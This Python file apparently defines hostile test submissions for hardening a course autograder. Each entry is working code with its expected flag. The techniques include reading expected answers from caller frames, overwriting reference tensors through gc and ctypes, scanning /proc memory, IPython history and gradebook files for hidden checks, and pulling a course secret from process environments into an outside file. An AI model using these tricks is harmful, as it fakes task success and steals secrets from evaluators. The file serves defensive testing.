"""Wanted values, checks and secrets read off somewhere: zero for that answer, and a flag."""

from hostile.case import attack

READ = "reading the caller's frames or the notebook for hidden checks"
TRICK = "`gc` and `ctypes` tricks"

attack(
    "frames",
    READ,
    "Takes the wanted value from the caller's frame.",
    """
    import sys

    def gradient(theta, X, y):
        frame = sys._getframe()
        while frame := frame.f_back:
            for space in (frame.f_locals, frame.f_globals):
                if getattr(space.get("wanted"), "shape", None) == theta.shape:
                    return space["wanted"].clone()
        return theta * 0
    """,
    answer="gradient",
    flags=("frames",),
)
attack(
    "frames-by-traceback",
    READ,
    "Takes the wanted value from frames that an exception, and threads, show.",
    """
    import sys

    def gradient(theta, X, y):
        try:
            raise ValueError
        except ValueError as error:
            frames = [error.__traceback__.tb_frame, *sys._current_frames().values()]
        while frames:
            frame = frames.pop()
            found = frame.f_globals.get("wanted")
            if getattr(found, "shape", None) == theta.shape:
                return found.clone()
            frames += [frame.f_back] if frame.f_back else []
        return theta * 0
    """,
    answer="gradient",
    flags=("frames",),
)
attack(
    "wanted-by-gc",
    TRICK,
    "Finds the wanted value among all objects and sets it to what it returns.",
    """
    import gc

    def gradient(theta, X, y):
        for space in gc.get_objects():
            if type(space) is dict and isinstance(space.get("wanted"), torch.Tensor):
                space["wanted"].detach().zero_()
        return theta.detach() * 0
    """,
    answer="gradient",
    flags=("memory",),
)
attack(
    "wanted-by-ctypes",
    TRICK,
    "Writes zeros over the memory of every tensor of the wanted shape.",
    """
    import ctypes, gc

    def gradient(theta, X, y):
        for t in gc.get_objects():
            if type(t) is torch.Tensor and t.shape == theta.shape and not t.is_sparse:
                ctypes.memset(t.data_ptr(), 0, t.numel() * t.element_size())
        return torch.zeros_like(theta).detach()
    """,
    answer="gradient",
    flags=("memory",),
)
attack(
    "checks-by-gc",
    READ,
    "Looks for the hidden checks among all texts of the process, prints and keeps them.",
    """
    import gc

    needle = " ".join(("wrong in the", "tails"))

    def texts():
        for o in gc.get_objects():
            for t in gc.get_referents(o):
                if type(t) is str and needle in t and t is not needle:
                    yield t
                elif type(t) is type(texts.__code__):
                    yield from (c for c in t.co_consts if c == needle)

    def sigmoid(z):
        for text in texts():
            print(text)
            open("$OUTSIDE/read-$MARK", "a").write(text)
        return z * 0 + 0.5
    """,
    flags=("memory",),
)
attack(
    "checks-by-memory",
    READ,
    "Searches the memory of every process that it may read for a hidden check.",
    """
    import glob, re

    def search(wanted=" ".join(("wrong in the", "tails")).encode(), limit=2 * 2**30):
        for folder in glob.glob("/proc/[0-9]*"):
            try:
                lines = open(f"{folder}/maps").readlines()
                with open(f"{folder}/mem", "rb", 0) as memory:
                    for line in lines:
                        a, b = (int(v, 16) for v in re.match(r"(\\w+)-(\\w+) rw", line).groups()) \\
                            if " rw" in line else (0, 0)
                        if 0 < b - a < 2**27 and limit > 0:
                            limit -= b - a
                            memory.seek(a)
                            block = memory.read(b - a)
                            for found in re.finditer(wanted, block):
                                at = found.start()
                                if block[at - 5 : at] == b'msg="':
                                    return block[at - 500 : at + 50]
            except (OSError, AttributeError, ValueError, OverflowError):
                pass

    def sigmoid(z):
        if found := search():
            print(found)
            open("$OUTSIDE/read-$MARK", "wb").write(found)
        return z * 0 + 0.5
    """,
    flags=("files",),
)
attack(
    "checks-from-history",
    READ,
    "Reads the running check's source from IPython's history, and prints and keeps it.",
    """
    def sigmoid(z):
        text = get_ipython().user_ns["In"][-1]
        print(text)
        open("$OUTSIDE/read-$MARK", "a").write(text)
        return z * 0 + 0.5
    """,
    flags=("files",),
)
attack(
    "checks-from-gradebook",
    READ,
    "Reads the hidden checks from the gradebook or any notebook on the disk, and keeps them.",
    """
    import glob, os, sqlite3

    def look():
        tops = ["$ROOT", "..", "../..", "../../..", *glob.glob("/proc/*/cwd")]
        for top in tops:
            for book in glob.glob(f"{top}/gradebook.db"):
                rows = sqlite3.connect(book).execute("select source from source_cell").fetchall()
                yield from (str(r[0]) for r in rows)
            for file in glob.glob(f"{top}/autograded/*/*/*.ipynb") + glob.glob(f"{top}/_build/**/*.json"):
                if os.access(file, os.R_OK):
                    yield open(file).read()

    def sigmoid(z):
        for text in look():
            if " ".join(("wrong in the", "tails")) in text:
                open("$OUTSIDE/read-$MARK", "w").write(text)
                print(text[-300:])
        return z * 0 + 0.5
    """,
    flags=("files",),
)
attack(
    "secret-from-environment",
    READ,
    "Looks for the course's secret in the environment of every process, prints and keeps it.",
    """
    import glob, os

    def look():
        yield str(dict(os.environ))
        for file in [*glob.glob("/proc/*/environ"), "$ROOT/.course_secret", ".course_secret"]:
            try:
                yield open(file, "rb").read().decode(errors="replace")
            except OSError:
                pass

    def sigmoid(z):
        for text in look():
            if "DGM_COURSE_" + "SECRET=" in text:
                print(text)
                open("$OUTSIDE/read-$MARK", "w").write(text)
        return z * 0 + 0.5
    """,
    flags=("files",),
)
